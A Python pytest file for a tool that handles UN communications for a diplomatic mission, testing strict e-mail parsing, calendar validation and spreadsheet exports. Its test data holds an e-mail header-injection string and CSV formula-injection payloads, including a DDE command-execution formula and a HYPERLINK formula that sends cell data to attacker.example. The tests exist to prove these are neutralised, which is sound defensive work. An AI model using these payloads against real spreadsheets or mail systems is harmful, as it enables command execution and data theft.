"""Artefacts opened in the tools a mission uses: e-mail drafts read by a strict parser, the
calendar by two validators, spreadsheets read back by LibreOffice Calc and openpyxl.

Each test opens the file the way the other tool does and looks at what it sees.
"""

from __future__ import annotations

import csv
import email
import io
import shutil
import subprocess
from datetime import date
from email import policy

import docx
import pytest

from commresp import mail
from commresp.errors import BadInput

ENQUIRIES = "correspondence/AL-BEL-1-2025/enquiries"
OUT = "correspondence/AL-BEL-1-2025/out"


def strict(path):
    """The message as a strict RFC 5322 parser reads it (any defect raises)."""
    message = email.message_from_bytes(path.read_bytes(), policy=policy.strict)
    assert not message.defects
    for part in message.walk():
        assert not part.defects
    for name, value in message.items():
        assert not getattr(value, "defects", ()), (name, value.defects)
    return message


def crlf_only(data: bytes) -> bool:
    """Every line ends in CRLF: no bare LF, no bare CR."""
    return data.count(b"\n") == data.count(b"\r\n") == data.count(b"\r") and b"\r\n" in data


# --- e-mail drafts -------------------------------------------------------------------------


@pytest.fixture
def mailed(registered):
    """AL BEL 1/2025 asked of Myria, whose contact is written with a name, and of the
    Federal Police (bare address); both answered, the reply drafted, rendered and sent."""
    run = registered
    run("agencies", "edit", "myria", "--email", "Myria – Service juridique <legal@myria.example>")
    run("agencies", "edit", "federal-police", "--email", "contact@police.example")
    run(
        "assign",
        "AL BEL 1/2025",
        "--agency",
        "myria",
        "--agency",
        "federal-police",
        "--due",
        "2025-08-20",
        "--question",
        "Are the persons named known to your services?",
    )
    return run


def test_enquiry_drafts_parse_strictly_with_crlf_and_names(mailed):
    path = mailed.root / ENQUIRIES / "enquiry-myria.eml"
    data = path.read_bytes()
    assert crlf_only(data)
    message = strict(path)
    assert message["X-Unsent"] == "1"  # opens as a draft in Outlook and Thunderbird
    (to,) = message["To"].addresses
    assert (to.display_name, to.addr_spec) == ("Myria – Service juridique", "legal@myria.example")
    (sender,) = message["From"].addresses
    assert (sender.display_name, sender.addr_spec) == (
        "Représentation permanente de la Belgique",
        "geneva@diplobel.fed.be",
    )
    assert "AL BEL 1/2025" in message["Subject"]
    body = message.get_body(("plain",)).get_content()
    assert "la réponse de la Belgique" in body
    (attachment,) = message.iter_attachments()
    assert attachment.get_filename() == "enquiry-myria.fr.docx"
    assert attachment.get_content_type() == (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    )
    docx.Document(io.BytesIO(attachment.get_content()))
    # no line longer than RFC 5322's 998 characters, none but ASCII in the headers
    assert max(len(line) for line in data.split(b"\r\n")) <= 998
    head = data.split(b"\r\n\r\n", 1)[0]
    assert head.isascii()
    police = strict(mailed.root / ENQUIRIES / "enquiry-federal-police.eml")
    assert police["To"].addresses[0].display_name == ""
    assert police["To"].addresses[0].addr_spec == "contact@police.example"


def test_agency_list_keeps_the_display_name(mailed):
    agencies = {a["slug"]: a for a in mailed.json("agencies")}
    assert agencies["myria"]["email"] == "Myria – Service juridique <legal@myria.example>"


def test_reminders_parse_strictly(mailed):
    mailed("remind", "AL BEL 1/2025", "--agency", "myria")
    (reminder,) = (mailed.root / ENQUIRIES).glob("enquiry-myria.reminder-*.eml")
    assert crlf_only(reminder.read_bytes())
    message = strict(reminder)
    assert message["X-Unsent"] == "1"
    assert message["To"].addresses[0].display_name == "Myria – Service juridique"


def test_reply_to_the_registry_parses_strictly(mailed):
    mailed("answer", "add", "AL BEL 1/2025", "--agency", "myria", "--text", "None is known.")
    mailed("answer", "add", "AL BEL 1/2025", "--agency", "federal-police", "--text", "No trace.")
    mailed("draft", "AL BEL 1/2025", "--date", "2025-08-01")
    mailed("render", "AL BEL 1/2025")
    mailed("send", "AL BEL 1/2025")
    (path,) = (mailed.root / OUT).glob("reply-*.eml")
    assert crlf_only(path.read_bytes())
    message = strict(path)
    assert message["X-Unsent"] == "1"
    (sender,) = message["From"].addresses
    # the note verbale's language (French for Belgium) names the mission
    assert (sender.display_name, sender.addr_spec) == (
        "Représentation permanente de la Belgique",
        "geneva@diplobel.fed.be",
    )
    assert message["To"].addresses[0].addr_spec == "ohchr-registry@un.org"
    names = sorted(a.get_filename() for a in message.iter_attachments())
    assert names == ["note_verbale.fr.v1.docx", "response.en.v1.docx"]
    for attachment in message.iter_attachments():
        docx.Document(io.BytesIO(attachment.get_content()))


@pytest.mark.parametrize(
    "text,name,spec",
    [
        ("contact@police.example", "", "contact@police.example"),
        ("Federal Police <contact@police.example>", "Federal Police", "contact@police.example"),
        ('"Police, federal" <contact@police.example>', "Police, federal", "contact@police.example"),
        ("  <contact@police.example> ", "", "contact@police.example"),
        ("Myria <info@exämple.be>", "Myria", "info@xn--exmple-cua.be"),
    ],
)
def test_parse_address_accepts_one_address(text, name, spec):
    address = mail.parse_address(text)
    assert (address.display_name, address.addr_spec) == (name, spec)


@pytest.mark.parametrize(
    "text,says",
    [
        ("a@police.example, b@police.example", "more than one address"),
        ("a@police.example;b@police.example", "more than one address"),
        ("A <a@police.example>, B <b@police.example>", "more than one address"),
        ("Police\r\nBcc: x@evil.example <a@police.example>", "line break or control"),
        ("contact@", "is not an e-mail address"),
        ("contact", "is not an e-mail address"),
        ("", "is empty"),
    ],
)
def test_parse_address_refuses_anything_else(text, says):
    with pytest.raises(BadInput, match=says):
        mail.parse_address(text)


def test_agency_address_refused_at_input_changes_nothing(registered):
    before = {a["slug"]: a["email"] for a in registered.json("agencies")}
    result = registered(
        "agencies", "edit", "myria", "--email", "a@myria.example, b@myria.example", code=2
    )
    assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
    assert "more than one address" in result.stderr
    assert {a["slug"]: a["email"] for a in registered.json("agencies")} == before


# --- the calendar --------------------------------------------------------------------------


@pytest.fixture
def diary(mailed):
    """Myria has answered AL BEL 1/2025, the police not yet; UA BEL 2/2025 is closed."""
    mailed("answer", "add", "AL BEL 1/2025", "--agency", "myria", "--text", "None is known.")
    mailed("register", "UA BEL 2/2025", "--date", "2025-07-25", "--mandate", "torture")
    mailed("close", "UA BEL 2/2025", "--reason", "joined to AL BEL 1/2025")
    return mailed


def ics(run, tmp_path):
    out = tmp_path / "deadlines.ics"
    run("export", "--format", "ics", "-o", str(out))
    return out.read_bytes()


def events_by_uid(data):
    from icalendar import Calendar

    return {str(e["uid"]): e for e in Calendar.from_ical(data).walk("VEVENT")}


def test_calendar_validates_in_icalendar_and_vobject(diary, tmp_path):
    import vobject

    data = ics(diary, tmp_path)
    assert crlf_only(data)
    parsed = vobject.readOne(data.decode("utf-8"), validate=True)
    assert parsed.validate(raiseException=True)
    uids = {e.uid.value for e in parsed.vevent_list}
    assert uids == {
        "AL-BEL-1-2025.reply@commresp",
        "AL-BEL-1-2025.myria.due@commresp",
        "AL-BEL-1-2025.federal-police.due@commresp",
        "UA-BEL-2-2025.reply@commresp",
    }
    for event in parsed.vevent_list:
        assert event.transp.value == "TRANSPARENT"  # a due date is not a busy day
        assert int(event.sequence.value) >= 1
        assert event.dtstamp.value.isoformat() == "2025-08-01T00:00:00+00:00"  # COMMRESP_TODAY


def test_calendar_reminds_and_cancels(diary, tmp_path):
    from datetime import date, timedelta

    events = events_by_uid(ics(diary, tmp_path))
    reply = events["AL-BEL-1-2025.reply@commresp"]
    assert reply["dtstart"].dt == date(2025, 9, 20)
    assert str(reply["status"]) == "CONFIRMED"
    (alarm,) = reply.walk("VALARM")
    assert alarm["trigger"].dt == timedelta(days=-3)  # the profile's default
    assert str(alarm["action"]) == "DISPLAY" and "reply due" in str(alarm["description"])
    police = events["AL-BEL-1-2025.federal-police.due@commresp"]
    assert str(police["status"]) == "CONFIRMED" and police.walk("VALARM")
    # answered, closed: cancelled, without a reminder
    for uid in ("AL-BEL-1-2025.myria.due@commresp", "UA-BEL-2-2025.reply@commresp"):
        assert str(events[uid]["status"]) == "CANCELLED", uid
        assert not events[uid].walk("VALARM")


def test_calendar_sequence_grows_with_each_change(diary, tmp_path):
    before = events_by_uid(ics(diary, tmp_path))
    diary("edit", "AL BEL 1/2025", "--date", "2025-07-23")
    after = events_by_uid(ics(diary, tmp_path))
    uid = "AL-BEL-1-2025.reply@commresp"
    assert after[uid]["sequence"] > before[uid]["sequence"]
    assert str(after[uid]["dtstart"].to_ical()) != str(before[uid]["dtstart"].to_ical())
    # a replied communication's events are cancelled too
    diary("answer", "add", "AL BEL 1/2025", "--agency", "federal-police", "--text", "No trace.")
    diary("draft", "AL BEL 1/2025", "--date", "2025-08-01")
    diary("render", "AL BEL 1/2025", "--lang", "en")
    diary("mark-sent", "AL BEL 1/2025", "--on", "2025-08-01")
    sent = events_by_uid(ics(diary, tmp_path))
    assert {str(e["status"]) for e in sent.values()} == {"CANCELLED"}
    assert sent[uid]["sequence"] > after[uid]["sequence"]


def test_calendar_alarm_days_from_the_profile(diary, tmp_path):
    from datetime import timedelta

    profile = diary.root / "commresp.toml"
    text = profile.read_text(encoding="utf-8")
    assert "alarm_days = 3" in text  # the default, documented in the profile
    profile.write_text(text.replace("alarm_days = 3", "alarm_days = 7"), encoding="utf-8")
    reply = events_by_uid(ics(diary, tmp_path))["AL-BEL-1-2025.reply@commresp"]
    assert reply.walk("VALARM")[0]["trigger"].dt == timedelta(days=-7)
    profile.write_text(text.replace("alarm_days = 3", "alarm_days = 0"), encoding="utf-8")
    assert not events_by_uid(ics(diary, tmp_path))["AL-BEL-1-2025.reply@commresp"].walk("VALARM")
    profile.write_text(text.replace("alarm_days = 3", 'alarm_days = "soon"'), encoding="utf-8")
    result = diary("export", "--format", "ics", code=1)
    assert result.stderr == (
        "Error: commresp.toml: calendar.alarm_days must be a whole number of days from 0 to 60, "
        "e.g. 3\n"
    )


# --- spreadsheets --------------------------------------------------------------------------

HOSTILE = {
    "AL BEL 1/2025": "=cmd|' /C calc'!A0",
    "AL BEL 2/2025": "Trafficking;=1+1;case",
    "AL BEL 3/2025": '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "AL BEL 4/2025": 'Siobhán Ó Briain, Łukasz; ‘quotes’ and "quotes", tab\tin',
    "AL BEL 5/2025": "-3",
    "AL BEL 6/2025": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def sheet_record(run):
    for i, (ref, subject) in enumerate(HOSTILE.items(), start=1):
        run(
            "register",
            ref,
            "--date",
            f"2025-07-{i:02d}",
            "--mandate",
            "torture",
            "--subject",
            subject,
        )
    return run


def soffice_convert(csv_path, out_dir, infilter=None):
    """LibreOffice Calc, headless, opens the CSV (with the import options given, as its
    Text Import dialog would) and saves it as .xlsx; the result read with openpyxl."""
    import openpyxl

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (CI installs libreoffice-calc-nogui)")
    profile = out_dir / "lo-profile"
    args = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
    if infilter:
        args.append(f"--infilter={infilter}")
    args += ["--convert-to", "xlsx", "--outdir", str(out_dir), str(csv_path)]
    done = subprocess.run(args, capture_output=True, text=True, timeout=120)
    converted = out_dir / (csv_path.stem + ".xlsx")
    if not converted.exists():
        pytest.fail(f"LibreOffice did not convert: {done.stdout} {done.stderr}")
    return openpyxl.load_workbook(converted).active


@pytest.mark.slow
@pytest.mark.parametrize(
    "separator,infilter",
    [(",", "CSV:44,34,76,1"), (";", "CSV:59,34,76,1"), ("tab", "CSV:9,34,76,1")],
)
def test_csv_in_libreoffice_calc_runs_no_formula(sheet_record, tmp_path, separator, infilter):
    out = tmp_path / "communications.csv"
    sheet_record("export", "--format", "csv", "-o", str(out))
    sheet = soffice_convert(out, tmp_path, infilter)
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == [], f"Calc set to {separator!r} reads formulas: {formulas}"
    if separator == ",":
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
        header = rows[0]
        assert header[0] == "reference"  # the BOM is read as such, not as text
        subjects = {r[0]: r[header.index("subject")] for r in rows[1:]}
        # Calc shows the text as it is, the apostrophe only before what would have run
        assert subjects["AL BEL 4/2025"] == HOSTILE["AL BEL 4/2025"]
        assert subjects["AL BEL 2/2025"] == "Trafficking;'=1+1;case"
        assert subjects["AL BEL 1/2025"] == "'" + HOSTILE["AL BEL 1/2025"]
        assert subjects["AL BEL 5/2025"] == -3  # a number, not a formula: left alone
        dates = {r[0]: r[header.index("date")] for r in rows[1:]}
        assert dates["AL BEL 1/2025"].date() == date(2025, 7, 1)  # read as a real date


def test_csv_quotes_every_field_and_reads_back_in_python(sheet_record):
    data = sheet_record("export", "--format", "csv").stdout_bytes
    assert data.startswith(b'\xef\xbb\xbf"reference",')
    lines = data.decode("utf-8-sig").split("\r\n")
    assert all(line.startswith('"') and line.endswith('"') for line in lines if line)
    rows = {r["reference"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    assert rows["AL BEL 4/2025"]["subject"] == HOSTILE["AL BEL 4/2025"]
    assert rows["AL BEL 6/2025"]["subject"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_xlsx_export_read_back_with_openpyxl(sheet_record, tmp_path):
    import openpyxl

    out = tmp_path / "communications.xlsx"
    result = sheet_record("export", "--format", "xlsx", "-o", str(out))
    assert f"Wrote {out}" in result.output
    book = openpyxl.load_workbook(out)
    sheet = book.active
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["reference", "date", "type", "mandates"]
    assert all(c.font.bold for c in sheet[1])
    rows = {r[0].value: {h: c for h, c in zip(header, r, strict=True)} for r in sheet.iter_rows(2)}
    assert set(rows) == set(HOSTILE)
    for ref, subject in HOSTILE.items():
        cell = rows[ref]["subject"]
        assert cell.data_type == "s", (ref, cell.data_type)  # text, never a formula
        assert cell.value == subject  # exactly as typed: no apostrophe
    letter = rows["AL BEL 1/2025"]["date"]
    assert letter.is_date and letter.value.date() == date(2025, 7, 1)
    assert letter.number_format == "yyyy-mm-dd"
    assert rows["AL BEL 1/2025"]["reply_due"].value.date() == date(2025, 8, 30)
    assert rows["AL BEL 1/2025"]["on_time"].value is None
    widths = {h: sheet.column_dimensions[chr(ord("A") + i)].width for i, h in enumerate(header)}
    assert widths["subject"] > widths["type"] >= 10
    assert widths["subject"] <= 62
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.slow
def test_xlsx_opens_in_libreoffice_without_formulas(sheet_record, tmp_path):
    out = tmp_path / "communications.xlsx"
    sheet_record("export", "--format", "xlsx", "-o", str(out))
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed (CI installs libreoffice-calc-nogui)")
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "csv",
            "--outdir",
            str(tmp_path / "back"),
            str(out),
        ],
        capture_output=True,
        timeout=120,
        check=True,
    )
    back = (tmp_path / "back" / "communications.csv").read_bytes().decode("utf-8", "replace")
    # Calc saved what it computed: a formula would have left its result, not its text
    assert HOSTILE["AL BEL 2/2025"] in back
    assert "=cmd|' /C calc'!A0" in back


def test_xlsx_goes_to_standard_output_when_it_is_not_a_terminal(sheet_record):
    # CliRunner's output is not a terminal: the bytes go to standard output
    data = sheet_record("export", "--format", "xlsx").stdout_bytes
    assert data.startswith(b"PK")
